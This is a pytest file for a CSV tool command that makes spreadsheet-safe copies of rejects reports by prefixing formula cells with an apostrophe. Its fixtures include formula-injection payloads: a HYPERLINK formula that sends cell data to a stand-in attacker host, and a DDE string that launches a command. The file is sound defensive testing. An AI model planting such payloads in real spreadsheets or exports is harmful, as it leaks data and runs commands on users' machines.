"""`csv-ingest spreadsheet-copy`: a rejects report stays exact (it loads again as it is), and its copy opens in a
spreadsheet without running a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from csv_ingest.cli.spreadsheet import runs_as_formula, spreadsheet_safe
from csv_ingest_engine.constants import EXIT_FAILED, EXIT_OK, EXIT_REJECTED, EXIT_USAGE
from tests.cli.runner import run

# Cells an uploader controls, as a spreadsheet would take them.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a fullwidth equals sign
]
PLAIN = ["Jane Doe", "-5", "+44", "1.5e3", "-.5", "a=b", " =1+1", ""]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert runs_as_formula(cell)
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_text_and_numbers_are_copied_as_they_are(cell: str) -> None:
    assert not runs_as_formula(cell)
    assert spreadsheet_safe(cell) == cell


def _report_of_rejected_formulas(tmp_path: Path, delimiter: str = ",") -> tuple[Path, list[list[str]]]:
    """validate --rejects on a file whose rejected rows hold formulas (age is not a number): the report, and the
    rows as uploaded."""
    rows = [["customer_id", "name", "age"]] + [[f"C-{i}", cell, "old"] for i, cell in enumerate(FORMULAS + PLAIN)]
    source = tmp_path / "customers.csv"
    with source.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file, delimiter=delimiter).writerows(rows)
    report = tmp_path / "rejected.csv"
    result = run("validate", source, "--type", "age=N", "--delimiter", delimiter, "--rejects", report)
    assert result.exit_code == EXIT_REJECTED, result.output
    return report, rows


def test_the_report_stays_exact_and_its_copy_runs_nothing(tmp_path: Path) -> None:
    report, rows = _report_of_rejected_formulas(tmp_path)
    with report.open(newline="", encoding="utf-8") as file:
        reported = list(csv.reader(file))
    # The report holds the cells as uploaded: fixed, it loads again as it is.
    assert [row[:3] for row in reported[1:]] == rows[1:]

    copy = tmp_path / "rejected-for-excel.csv"
    result = run("spreadsheet-copy", report, copy)

    assert result.exit_code == EXIT_OK, result.output
    rejected = len(rows) - 1  # every row but the header
    assert f"Wrote {copy}: its header and {rejected} rows; {len(FORMULAS)} cells that a spreadsheet would run" in (
        " ".join(result.output.split())
    )
    data = copy.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    copied = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert copied[0] == reported[0]
    for before, after in zip(reported[1:], copied[1:], strict=True):
        assert after[1] == ("'" + before[1] if before[1] in FORMULAS else before[1])
        assert after[0] == before[0] and after[3:] == before[3:]
    assert not any(runs_as_formula(cell) for row in copied for cell in row)


def test_the_copy_keeps_the_reports_delimiter(tmp_path: Path) -> None:
    report, _ = _report_of_rejected_formulas(tmp_path, delimiter=";")
    copy = tmp_path / "copy.csv"

    result = run("spreadsheet-copy", report, copy, "--delimiter", ";")

    assert result.exit_code == EXIT_OK, result.output
    header = copy.read_text(encoding="utf-8-sig").splitlines()[0]
    assert header == "customer_id;name;age;rejected_line;rejected_reason"


def test_a_malformed_report_fails_naming_its_line_and_leaves_the_copy_as_it_was(tmp_path: Path) -> None:
    report = tmp_path / "rejected.csv"
    report.write_text('customer_id,name\nC-1,"=1+1\n', encoding="utf-8")
    copy = tmp_path / "copy.csv"
    copy.write_text("an earlier copy\n")

    result = run("spreadsheet-copy", report, copy)

    assert result.exit_code == EXIT_FAILED
    assert "malformed CSV after line 2: unexpected end of data" in result.output
    assert copy.read_text() == "an earlier copy\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["copy.csv", "rejected.csv"]


def test_a_report_that_is_not_utf8_fails_saying_so(tmp_path: Path) -> None:
    report = tmp_path / "rejected.csv"
    report.write_bytes("customer_id,name\nC-1,Zoë\n".encode("cp1252"))

    result = run("spreadsheet-copy", report, tmp_path / "copy.csv")

    assert result.exit_code == EXIT_FAILED
    assert "not UTF-8 text" in result.output
    assert not (tmp_path / "copy.csv").exists()


def test_the_copy_may_not_overwrite_the_report(tmp_path: Path) -> None:
    report, _ = _report_of_rejected_formulas(tmp_path)
    before = report.read_bytes()

    result = run("spreadsheet-copy", report, tmp_path / "." / report.name)

    assert result.exit_code == EXIT_USAGE
    assert "is REPORT itself" in result.output
    assert report.read_bytes() == before


def test_a_long_cell_is_judged_in_one_pass() -> None:
    """A cell as long as the reader allows (1 MiB), which the report keeps as uploaded: a sign, a million digits
    and a letter is not a number, so it runs as a formula (a pattern that backtracked would take hours on it)."""
    cell = "-" + "1" * (1024 * 1024 - 2) + "x"
    assert runs_as_formula(cell)
    assert not runs_as_formula(cell[:-1])


def test_a_missing_report_fails(tmp_path: Path) -> None:
    result = run("spreadsheet-copy", tmp_path / "nothing.csv", tmp_path / "copy.csv")

    assert result.exit_code == EXIT_FAILED
    assert "no such file" in result.output
